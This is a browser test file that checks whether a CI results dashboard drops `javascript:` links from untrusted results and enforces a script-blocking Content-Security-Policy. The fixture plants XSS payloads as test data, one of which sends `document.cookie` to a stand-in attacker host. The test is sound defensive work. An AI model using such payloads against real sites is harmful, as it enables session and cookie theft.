"""A downstream's `javascript:` links never become clickable links on the dashboard.

Another relay may forward a result with hostile links unchecked; the HUD drops them at
ingestion, and every page carries a Content-Security-Policy that forbids inline script.
"""

from __future__ import annotations

from collections.abc import Iterator

import httpx
import pytest
from playwright.sync_api import sync_playwright
from tests.browser import CHROMIUM, CHROMIUM_ARGS, require_chromium
from tests.hud.web import seed
from tests.hud.web.harness import TOKEN, LiveServer, hud_app

from crcr.hud.db import create_results_engine, migrate

pytestmark = pytest.mark.browser

HOSTILE = seed.Result("evil/backend", "L2", 777, seed.SHA_101, "build", "failure")


@pytest.fixture(scope="module")
def hostile_hud(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A live HUD that was sent one result whose links are `javascript:`."""
    database = tmp_path_factory.mktemp("hud") / "hud.db"
    engine = create_results_engine(f"sqlite:///{database}")
    migrate(engine)
    clock = seed.Clock()
    body = seed.result_body(HOSTILE, clock.now)
    workflow = body["untrusted"]["callback_payload"]["workflow"]
    workflow["url"] = "javascript:alert(document.cookie)"
    workflow["artifact_url"] = " JavaScript:fetch('https://evil.example/'+document.cookie)"
    try:
        with LiveServer(hud_app(engine, clock)) as server:
            with httpx.Client(base_url=server.url) as client:
                answer = client.post(
                    "/api/crcr/results", json=body, headers={"x-hud-internal-bot": TOKEN}
                )
                assert answer.status_code == 200, answer.text
            yield server.url
    finally:
        engine.dispose()


@pytest.mark.parametrize("path", ["/crcr/pr/777", "/crcr/evil/backend"])
def test_pages_show_the_result_without_a_javascript_link(hostile_hud: str, path: str) -> None:
    require_chromium()
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page()
            response = page.goto(f"{hostile_hud}{path}")
            assert response is not None and response.status == 200
            assert "script-src 'self'" in response.headers["content-security-policy"]
            assert page.get_by_text("evil/backend").count() > 0
            hrefs: list[str] = page.eval_on_selector_all(
                "a[href]", "links => links.map(a => a.getAttribute('href'))"
            )
        finally:
            browser.close()
    assert hrefs, "the page has links"
    assert not [href for href in hrefs if "javascript:" in href.lower().replace(" ", "")]
